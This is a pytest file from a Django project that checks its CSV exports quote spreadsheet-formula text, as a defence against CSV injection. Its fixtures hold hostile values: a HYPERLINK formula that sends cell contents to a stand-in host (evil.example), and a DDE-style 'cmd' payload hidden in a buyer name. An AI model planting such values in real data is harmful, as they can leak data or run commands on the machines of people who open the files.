"""No CSV Delbar writes can run as a spreadsheet formula (OWASP, "CSV Injection"): a case titled
`=HYPERLINK(…)`, imported notices titled `@SUM(1+1)` and `-2+3` and a public body whose name starts
with `@` come out of the open-data CSV, `delbar export --format csv`, every observatory CSV and every
case diffusion CSV quoted as text, while the numbers Delbar writes — negative days too — stay numbers."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils.translation import gettext_lazy

from delbar.cases.models import Status
from delbar.diffusion import actions, registry
from delbar.diffusion.casefigures import case_figures
from delbar.notices.importing import ImportReport, import_document
from delbar.opendata.cells import safe_cell
from delbar.orgs.models import Organization
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
NOTICE_TITLES = ["@SUM(1+1)", "-2+3"]
BUYER_NAME = "+47 Kommune=cmd|' /C calc'!A0"
AGENCY_NAME = "@Etat for digitale formler"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _ocds_package(titles: list[str]) -> bytes:
    """Notices as another publisher sends them: an OCDS release package, imported as `delbar import` does."""
    releases = [{"ocid": f"ocds-csvtest-{number}", "id": f"ocds-csvtest-{number}-1", "date": "2024-03-01T09:00:00Z",
                 "tag": ["tender"], "initiationType": "tender", "language": "nb",
                 "parties": [{"id": "buyer-1", "name": BUYER_NAME, "roles": ["buyer"]}],
                 "buyer": {"id": "buyer-1", "name": BUYER_NAME},
                 "tender": {"id": str(number), "title": title, "value": {"amount": 125000, "currency": "NOK"}}}
                for number, title in enumerate(titles, start=1)]
    return json.dumps({"uri": "https://example.org/package.json", "version": "1.1",
                       "publishedDate": "2024-03-01T09:00:00Z", "publisher": {"name": "Test"},
                       "releases": releases}).encode()


@pytest.fixture
def hostile(make_case, cast):
    """A published case whose title is a formula, taken up by Utsira before it was published in Delbar
    (so its days to the first adoption are negative) and by an agency whose name starts with "@", and
    two notices with formula titles."""
    case = make_case(Status.PUBLISHED, title=HYPERLINK, contract_value_nok=2_400_000,
                     contract_date=dt.date(2020, 1, 1))
    # Organizations other than municipalities and counties are registered by hand, as in conftest.
    agency = Organization.objects.create(kind=Organization.Kind.STATE_AGENCY, name=AGENCY_NAME)
    for organization, day in ((Organization.objects.get(municipality_number="1151"), dt.date(2021, 1, 1)),
                              (agency, dt.date(2021, 2, 1))):
        actions.declare(case=case, actor=None, organization=organization, adopted_on=day, route="pilot")
    report = ImportReport()
    import_document(_ocds_package(NOTICE_TITLES), source="file", source_file="hostile.json", report=report)
    assert report.created == len(NOTICE_TITLES), report.skipped
    return case


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula: starting with a formula character, not a number."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


def _downloaded(response) -> str:
    assert response.status_code == 200, response
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode()


def test_safe_cell_quotes_text_that_starts_a_formula_and_leaves_numbers_alone():
    for text in ("=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell(gettext_lazy("-lazy")) == "'-lazy"
    assert safe_cell(dt.date(2024, 3, 1)) == "2024-03-01"
    for value in (-5, 0, 3.5, -0.25, Decimal("-1200.50"), True, None, "Bergen", "", "1+1", "'=quoted"):
        assert safe_cell(value) == value


def test_the_open_data_csv_quotes_formulas_and_keeps_numbers(hostile, client):
    text = _downloaded(client.get("/open-data/delbar.csv"))
    assert _unsafe_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = {row["title"] for row in rows}
    assert {"'" + HYPERLINK, "'@SUM(1+1)", "'-2+3"} <= titles
    assert {row["buyer"] for row in rows if row["kind"] == "notice"} == {"'" + BUYER_NAME}
    case = next(row for row in rows if row["kind"] == "case")
    assert (case["id"], case["value"]) == (str(hostile.pk), "2400000")
    assert {Decimal(row["value"]) for row in rows if row["kind"] == "notice"} == {125000}


def test_the_csv_export_command_writes_the_same_safe_table(hostile):
    out = io.StringIO()
    call_command("export", format="csv", stdout=out, stderr=io.StringIO())
    assert _unsafe_cells(out.getvalue()) == []
    assert "'" + HYPERLINK in {row["title"] for row in csv.DictReader(io.StringIO(out.getvalue()))}


def test_every_observatory_csv_quotes_formulas_and_keeps_numbers(hostile, cast):
    curator = client_for(cast["carol"])     # curators may download every figure, `unreached` too
    for name in registry.NAMES:
        text = _downloaded(curator.get(f"/observatory/{name}.csv"))
        assert _unsafe_cells(text) == [], name
    spread = list(csv.DictReader(io.StringIO(_downloaded(client_for(None).get("/observatory/spread.csv")))))
    [row] = spread
    assert row["title"] == "'" + HYPERLINK and row["adopters"] == "2"
    # Utsira took it up years before it was published here: a negative number, written as a number.
    assert int(row["days_to_first"]) < 0 and row["days_to_first"].startswith("-")
    # The JSON and the API carry the title as it is.
    assert client_for(None).get("/observatory/spread.json").json()["rows"][0]["title"] == HYPERLINK


def test_every_case_diffusion_csv_quotes_formulas(hostile):
    anonymous = client_for(None)
    for name in case_figures(hostile):
        text = _downloaded(anonymous.get(f"/cases/{hostile.pk}/diffusion/{name}.csv"))
        assert _unsafe_cells(text) == [], name
    adopters = {row["organization"]: row for row in csv.DictReader(io.StringIO(
        _downloaded(anonymous.get(f"/cases/{hostile.pk}/diffusion/adopters.csv"))))}
    assert int(adopters["'" + AGENCY_NAME]["days_after_publication"]) < 0
    assert int(adopters["Utsira"]["days_after_publication"]) < 0
